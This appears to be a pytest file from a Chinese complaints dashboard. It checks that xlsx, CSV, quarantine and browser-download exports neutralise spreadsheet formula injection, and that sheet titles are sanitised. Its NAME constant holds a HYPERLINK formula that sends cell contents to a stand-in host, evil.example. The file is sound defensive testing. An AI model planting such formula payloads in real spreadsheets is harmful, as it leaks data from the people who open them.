"""Formulas in imported text never come back live: every export and every download.

A compound name or a complaint that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return would be read by Excel as a formula (``=HYPERLINK(...)``, the classic
CSV/formula injection). The xlsx writer stores such text as text with Excel's quote
prefix (shown as it came, text when edited), the CSV writer adds a leading apostrophe.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.engine import Engine

from dashboard import harness
from dashboard.harness import CHROMIUM, CHROMIUM_ARGS, block_outside
from etl import export
from etl.intake import quarantine
from geo import auth, sheets
from tests.conftest import AS_OF, TEST_PASSWORD, scratch_database
from tests.test_browser import ARTIFACTS, TIMEOUT_MS, screenshot_on_failure

NAME = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'
CONTENT = "+86 ＠物业 @SUM(1+1) 楼道漏水"
ADDRESS = "-1栋 二单元"
CELLS = ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx")


def test_the_writers_neutralise_every_formula_start() -> None:
    import pandas as pd

    df = pd.DataFrame({"文本": list(CELLS) + ["平常文字", "1-2"], "数": range(8)})
    wb = load_workbook(io.BytesIO(sheets.workbook([("表", df)], notes=["=说明也是文本"])))
    ws = wb["表"]
    for row, text in zip(ws.iter_rows(min_row=2), [*CELLS, "平常文字", "1-2"], strict=False):
        cell = row[0]
        assert cell.data_type == "s"
        # openpyxl's own XML reader reads a CR back as LF; with lxml installed (python-docx
        # needs it) the CR is kept
        assert cell.value in (text, text.replace("\r", "\n"))
        assert bool(cell.quotePrefix) == sheets.is_formula_like(text)
        assert isinstance(row[1].value, int)  # numbers stay numbers
    assert wb["说明"]["A1"].data_type == "s" and wb["说明"]["A1"].quotePrefix
    rows = list(csv.reader(io.StringIO(sheets.csv_text(df), newline="")))
    for row, text in zip(rows[1:], CELLS, strict=False):
        assert row[0] == "'" + text
    assert rows[7][0] == "平常文字" and rows[8][0] == "1-2"


@pytest.fixture(scope="module")
def planted() -> Iterator[tuple[Engine, str, str]]:
    """A demo with a formula in a compound name, a complaint and an address."""
    from etl import demo as demo_mod

    with scratch_database("_formulas") as (eng, url):
        demo_mod.build(eng, seed=11, n_cases=2_000, as_of=AS_OF, say=lambda _m: None)
        with eng.begin() as con:
            compound = con.execute(sa.text(
                "SELECT x.id FROM compounds x JOIN cases c ON c.compound_id = x.id "
                "WHERE x.is_sanwu GROUP BY x.id ORDER BY count(*) DESC LIMIT 1")).scalar()
            street = con.execute(sa.text("SELECT street_code FROM compounds WHERE id = :i"),
                                 {"i": compound}).scalar()
            con.execute(sa.text("UPDATE compounds SET name = :n WHERE id = :i"),
                        {"n": NAME, "i": compound})
            con.execute(sa.text("UPDATE cases SET content = :c, address = :a WHERE id = "
                                "(SELECT min(id) FROM cases WHERE compound_id = :i)"),
                        {"c": CONTENT, "a": ADDRESS, "i": compound})
            auth.add_user(con, "t-leader", "leader", password=TEST_PASSWORD, must_change=False,
                          by="tests")
        yield eng, url, str(street)


def _xlsx_cells(data: bytes) -> list[object]:
    wb = load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]


def _assert_neutral_xlsx(data: bytes, expected: tuple[str, ...]) -> None:
    cells = _xlsx_cells(data)
    found = {c.value: c for c in cells if c.value in expected}  # type: ignore[attr-defined]
    assert set(found) == set(expected), f"missing {set(expected) - set(found)}"
    for cell in found.values():
        assert cell.data_type == "s" and cell.quotePrefix  # type: ignore[attr-defined]
    assert not any(c.data_type == "f" for c in cells)  # type: ignore[attr-defined]


def test_every_export_neutralises(planted: tuple[Engine, str, str], tmp_path: Path) -> None:
    eng, _url, _street = planted
    for layer, expected in (("compounds", (NAME,)), ("cases", (NAME, CONTENT, ADDRESS))):
        out = tmp_path / f"{layer}.xlsx"
        export.export(eng, layer, "xlsx", out)
        _assert_neutral_xlsx(out.read_bytes(), expected)
        out = tmp_path / f"{layer}.csv"
        export.export(eng, layer, "csv", out)
        text = out.read_bytes().decode("utf-8-sig")
        for value in expected:
            assert ("'" + value) in text or ("'" + value).replace('"', '""') in text
        for row in csv.reader(io.StringIO(text, newline="")):
            assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


def test_the_quarantine_export_neutralises(planted: tuple[Engine, str, str],
                                           tmp_path: Path) -> None:
    import numpy as np
    import pandas as pd

    eng, _url, _street = planted
    with eng.begin() as con:
        imp = con.execute(sa.text(
            "INSERT INTO imports (kind, file, file_sha256) VALUES ('cases', 'x.csv', 'x') "
            "RETURNING id")).scalar_one()
        quarantine.write(con, imp, "x.csv", pd.DataFrame({"工单编号": [NAME]}),
                         np.array([2]), np.array(["缺少受理时间"], dtype=object))
        out = tmp_path / "q.xlsx"
        quarantine.export(con, out, imp)
        csv_out = tmp_path / "q.csv"
        quarantine.export(con, csv_out, imp)
    cells = _xlsx_cells(out.read_bytes())
    assert not any(c.data_type == "f" for c in cells)  # type: ignore[attr-defined]
    for row in csv.reader(io.StringIO(csv_out.read_bytes().decode("utf-8-sig"), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


@pytest.mark.browser
def test_the_dashboards_downloads_neutralise(planted: tuple[Engine, str, str]) -> None:
    from playwright.sync_api import sync_playwright

    _eng, url, street = planted
    ARTIFACTS.mkdir(exist_ok=True)
    with open(ARTIFACTS / "streamlit-formulas.log", "w") as log, \
            harness.running(url, log=log) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        context = browser.new_context(viewport={"width": 1600, "height": 1000},
                                      accept_downloads=True)
        pg = context.new_page()
        pg.set_default_timeout(TIMEOUT_MS)
        blocked = block_outside(pg, base)
        with screenshot_on_failure(pg, "formulas"):
            harness.login(pg, base, "t-leader", TEST_PASSWORD, TIMEOUT_MS)
            pg.goto(f"{base}/worklist?street={street}")
            with pg.expect_download() as info:
                pg.get_by_role("button", name="下载 Excel 清单").click()
            _assert_neutral_xlsx(Path(info.value.path()).read_bytes(), (NAME,))
        context.close()
        browser.close()
    assert blocked == []


def test_a_sheet_named_after_a_street_with_any_characters() -> None:
    import pandas as pd

    df = pd.DataFrame({"a": [1]})
    for title in ("城西/城东[新]街道：工作清单?*\\", "'引号'", "\x01", "", "很" * 40):
        wb = load_workbook(io.BytesIO(sheets.workbook([(title, df)])))
        name = wb.sheetnames[0]
        assert name == sheets.sheet_title(title) and 0 < len(name) <= 31
        assert not set(name) & set("/\\?*[]:") and not name.startswith("'")
    assert sheets.sheet_title("城西/城东[新]街道") == "城西／城东［新］街道"
